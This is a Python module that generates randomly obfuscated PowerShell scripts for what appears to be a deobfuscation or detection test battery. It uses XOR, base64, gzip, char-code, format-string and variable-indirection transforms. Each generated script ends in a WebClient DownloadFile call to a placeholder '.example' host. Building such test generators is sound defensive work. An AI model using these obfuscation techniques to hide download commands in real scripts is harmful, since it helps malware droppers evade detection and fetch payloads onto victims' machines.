"""Programs made by random composition: the answer comes from the plain text, not from the evaluator.

Every transform here has a case of its own in `battery`.
"""

from __future__ import annotations

import base64
import gzip
from typing import TYPE_CHECKING, Final

if TYPE_CHECKING:
    from collections.abc import Callable
    from random import Random

WORDS: Final = ("alpha", "bravo", "charlie", "delta", "echo", "golf")
SAFE: Final = "abcdefghijklmnopqrstuvwxyz0123456789"


class Composer:
    """Builds a script whose last value is a text, in a random way.

    Attributes:
        statements: What must stand before the expression.
    """

    def __init__(self, random: Random) -> None:
        self.random = random
        self.statements: list[str] = []
        self._names = 0

    def name(self) -> str:
        """A fresh variable."""
        self._names += 1
        return f"{self.random.choice('abcdefghijk')}{self._names}"

    def expression(self, text: str, depth: int) -> str:
        """An expression in brackets or quotes that has this text as its value."""
        if depth == 0 or not text:
            return "'" + text.replace("'", "''") + "'"
        return self.random.choice(TRANSFORMS)(self, text, depth - 1)

    def cut(self, text: str, parts: int) -> list[str]:
        """The text in pieces."""
        places = sorted(self.random.randrange(len(text) + 1) for _ in range(parts - 1))
        return [text[a:b] for a, b in zip([0, *places], [*places, len(text)], strict=True)]

    def case(self, word: str) -> str:
        """The word with random case."""
        return "".join(self.random.choice((letter.upper(), letter.lower())) for letter in word)


def concatenation(c: Composer, text: str, depth: int) -> str:
    """``(a + b + c)``."""
    return "(" + "+".join(c.expression(piece, depth) for piece in c.cut(text, 3)) + ")"


def formatting(c: Composer, text: str, depth: int) -> str:
    """``('{1}{0}' -f b, a)``."""
    pieces = c.cut(text, 3)
    order = [0, 1, 2]
    c.random.shuffle(order)
    pattern = "".join(f"{{{order.index(at)}}}" for at in range(3))
    return f"('{pattern}' -{c.case('f')} " + ",".join(c.expression(pieces[at], depth) for at in order) + ")"


def replacing(c: Composer, text: str, depth: int) -> str:
    """A marker put in and replaced away."""
    marker = "q" + "".join(c.random.choice(SAFE) for _ in range(4)) + "Z"
    place = c.random.randrange(len(text) + 1)
    dirty = c.expression(text[:place] + marker + text[place:], depth)
    if c.random.random() < 0.5:
        return f"({dirty}.\"{c.case('replace')}\"('{marker}',''))"
    return f"({dirty} -{c.case('creplace')} '{marker}','')"


def reversing(c: Composer, text: str, depth: int) -> str:
    """The text backwards, turned round by a range."""
    name = c.name()
    c.statements.append(f"${name}={c.expression(text[::-1], depth)}")
    return f"(-{c.case('join')}(${name}[-1..-(${name}.length)]))"


def codes(c: Composer, text: str, _depth: int) -> str:
    """Code points cast to characters."""
    return f"(-join[{c.case('char')}[]]({','.join(str(ord(letter)) for letter in text)}))"


def exclusive_or(c: Composer, text: str, _depth: int) -> str:
    """Code points combined with a key in a pipeline."""
    key = c.random.randrange(1, 200)
    values = ",".join(str(ord(letter) ^ key) for letter in text)
    return f"(-join(@({values})|%{{[char]($_ -bxor {key})}}))"


def loop(c: Composer, text: str, _depth: int) -> str:
    """Code points combined with a key in a loop at the top."""
    key, values, out, at = c.random.randrange(1, 200), c.name(), c.name(), c.name()
    numbers = ",".join(str(ord(letter) ^ key) for letter in text)
    c.statements.append(
        f"${values}=@({numbers});${out}='';for(${at}=0;${at} -lt ${values}.Count;${at}++)"
        f"{{${out}+=[char](${values}[${at}] -bxor {key})}}"
    )
    return f"${out}"


def encoding(c: Composer, text: str, depth: int) -> str:
    """Base64 in two encodings."""
    name, codec = c.random.choice((("UTF8", "utf-8"), ("Unicode", "utf-16-le")))
    coded = c.expression(base64.b64encode(text.encode(codec)).decode(), depth)
    return f"([Text.Encoding]::{c.case(name)}.GetString([Convert]::{c.case('frombase64string')}({coded})))"


def compression(c: Composer, text: str, _depth: int) -> str:
    """GZip held in variables."""
    memory, reader = c.name(), c.name()
    packed = base64.b64encode(gzip.compress(text.encode(), mtime=0)).decode()
    c.statements.append(
        f"${memory}=New-Object IO.MemoryStream(,[Convert]::FromBase64String('{packed}'));"
        f"${reader}=New-Object IO.StreamReader((New-Object IO.Compression.GZipStream"
        f"(${memory},[IO.Compression.CompressionMode]::Decompress)))"
    )
    return f"(${reader}.ReadToEnd())"


def variable(c: Composer, text: str, depth: int) -> str:
    """Kept in a variable, set in one of several ways."""
    name = c.name()
    value = c.expression(text, depth)
    c.statements.append(
        c.random.choice(
            (
                f"${name}={value}",
                f"set-item variable:{name} {value}",
                f"sv {name} {value}",
                f"${{{name}}} = {value}",
            )
        )
    )
    return c.random.choice(
        (f"${name}", f"(gi variable:{name}).Value", f"(gv {name}).value", f"$({'$' + name})")
    )


def table(c: Composer, text: str, depth: int) -> str:
    """Kept in a hashtable in pieces."""
    name = c.name()
    one, two = c.cut(text, 2)
    c.statements.append(f"${name}=@{{x={c.expression(one, depth)};'y'={c.expression(two, depth)}}}")
    return f"(${name}.x+${name}['y'])"


def decoys(c: Composer, text: str, depth: int) -> str:
    """One element of an array of decoys."""
    place = c.random.randrange(3)
    items = [f"'{c.random.choice(WORDS)}'" for _ in range(3)]
    items[place] = c.expression(text, depth)
    return f"(({','.join(items)})[{place}])"


def splitting(c: Composer, text: str, depth: int) -> str:
    """Split at a mark that is not in the text, and joined."""
    mark = "~"
    dirty = c.expression(mark.join(c.cut(text, 3)), depth)
    return f"({dirty}.Split('{mark}') -join '')" if mark not in text else c.expression(text, depth)


def stepping(c: Composer, text: str, depth: int) -> str:
    """Every second character, by a loop."""
    source, out, at = c.name(), c.name(), c.name()
    mixed = "".join(letter + c.random.choice(SAFE) for letter in text)
    c.statements.append(
        f"${source}={c.expression(mixed, min(depth, 1))};${out}='';"
        f"for(${at}=0;${at} -lt ${source}.Length;${at}+=2)"
        f"{{${out}+=${source}.Substring(${at},1)}}"
    )
    return f"${out}"


def function(c: Composer, text: str, depth: int) -> str:
    """Put together by a function."""
    name = f"f{c.name()}"
    one, two = c.cut(text, 2)
    c.statements.append(f"function {name}($l,$r){{return $l+$r}}")
    return f"({name} {c.expression(one, depth)} {c.expression(two, depth)})"


TRANSFORMS: Final[tuple[Callable[[Composer, str, int], str], ...]] = (
    concatenation, formatting, replacing, reversing, codes, exclusive_or, loop, encoding, compression,
    variable, table, decoys, splitting, stepping, function,
)  # fmt: skip


def program(random: Random) -> tuple[str, str]:
    """A script and the URL that it fetches."""
    composer = Composer(random)
    path = "".join(random.choice(SAFE) for _ in range(random.randrange(3, 12)))
    url = f"http://{random.choice(WORDS)}.example/{path}.bin"
    expression = composer.expression(url, random.randrange(2, 5))
    fetch = f"(New-Object Net.WebClient).DownloadFile({expression},'c:\\x')"
    return "\n".join([*composer.statements, fetch]), url
